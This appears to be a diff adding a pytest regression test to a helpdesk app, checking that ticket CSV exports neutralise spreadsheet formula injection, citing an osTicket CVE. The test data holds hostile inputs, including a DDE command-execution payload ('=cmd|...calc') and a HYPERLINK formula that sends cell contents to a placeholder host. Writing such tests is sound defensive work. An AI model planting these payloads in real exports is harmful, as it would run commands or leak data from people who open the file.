@@ -1,5 +1,7 @@
 """Breaches that happened to others by attachments and exports: each as a test of this desk."""
 
+import csv
+import io
 import re
 
 import pytest
@@ -9,6 +11,7 @@ from foredesk.channels.tests.mails import a_mailbox
 from foredesk.conftest import _agent
 from foredesk.people import deactivating
 from foredesk.people.models import Team
+from foredesk.plumbing import cells
 from foredesk.plumbing.clock import now
 from foredesk.tickets import assigning
 from foredesk.tickets.models import Attachment, Ticket
@@ -130,3 +133,25 @@ def test_rt_no_file_is_found_by_counting():
     client = signed_in(_agent("Anna", "agent"))
     for guess in (str(file.pk), file.blob_id, file.public_id[:-1], file.public_id.upper()):
         assert client.get(f"/files/{guess}/").status_code == 404
+
+
+@pytest.mark.parametrize(
+    "bad",
+    [
+        "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1", " =1", "\uff1d1+1", '"=1', "'=1",
+        '=HYPERLINK("http://t.example?x="&A1,"x")', "|cmd", "a,=1", ";=1", "-5", "+49 30 1234",
+    ],
+)  # fmt: skip
+def test_rt_cve_2025_61873_osticket_cve_2019_14749_no_exported_cell_runs(bad):
+    """Row 20: a customer's subject, name, address and words are text in every spreadsheet, also in
+    one that splits at semicolons, and come back as they were."""
+    cases.ticket_of(subject=bad, name=bad, text=bad)
+    answer = signed_in(_agent("Anna", "agent")).get("/inbox/tickets.csv?view=open")
+    text = b"".join(answer.streaming_content).decode("utf-8-sig")
+    (row,) = csv.DictReader(io.StringIO(text, newline=""))
+    for name in ("Subject", "Customer", "Begins with"):
+        assert row[name].lstrip(' "\t\r\n')[:1] not in set("=+-@\uff1d\uff0b\uff0d\uff20")
+        assert cells.original(row[name]).split() == bad.split()
+    for sign in ",;\t":
+        for cell in (one for line in text.splitlines() for one in line.split(sign)):
+            assert not re.match(r"[\"\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]", cell), cell
